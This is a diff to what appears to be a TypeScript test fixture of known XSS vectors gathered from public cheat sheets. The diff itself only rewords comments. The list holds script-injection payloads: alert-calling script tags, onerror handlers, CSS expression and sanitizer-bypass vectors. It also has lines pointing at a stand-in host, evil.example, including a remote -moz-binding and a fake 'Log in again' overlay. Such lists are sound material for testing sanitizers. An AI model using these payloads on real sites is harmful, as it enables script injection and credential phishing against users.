@@ -1,9 +1,9 @@
 /**
- * Known XSS vectors, collected from public cheat sheets. Most call `alert`, `prompt` or `confirm`,
- * or request another host; the others leave elements or attributes that the test finds in the page.
+ * Known XSS vectors, collected from public cheat sheets. Most call `alert`, or request another
+ * host; the others leave elements or attributes that the test finds in the page.
  */
 export const VECTORS: readonly string[] = [
-  // Plain, in mixed case, split into pieces
+  // Script elements, and contexts that are broken out of
   '<script>alert(1)</script>',
   '<SCRIPT>alert(1)</SCRIPT>',
   '<ScRiPt >alert(1)</ScRiPt >',
@@ -37,7 +37,7 @@ export const VECTORS: readonly string[] = [
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<?xml version="1.0"?><script>alert(1)</script>',
   '<!DOCTYPE html><script>alert(1)</script>',
-  // Handlers
+  // Event handlers, SVG and MathML
   '<img src=x onerror=alert(1)>',
   '<img src=x onerror="alert(1)">',
   "<img src=x onerror='alert(1)'>",
@@ -164,7 +164,7 @@ export const VECTORS: readonly string[] = [
   '<p style="width:expression(alert(1))">x</p>',
   '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
   '<p style="position:fixed;inset:0;z-index:9999"><a href="https://evil.example">Log in again</a></p>',
-  // What sanitizers got wrong
+  // Known sanitizer bypasses
   '<template><script>alert(1)</script></template>',
   '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
   '<xmp><img src=x onerror=alert(1)></xmp>',
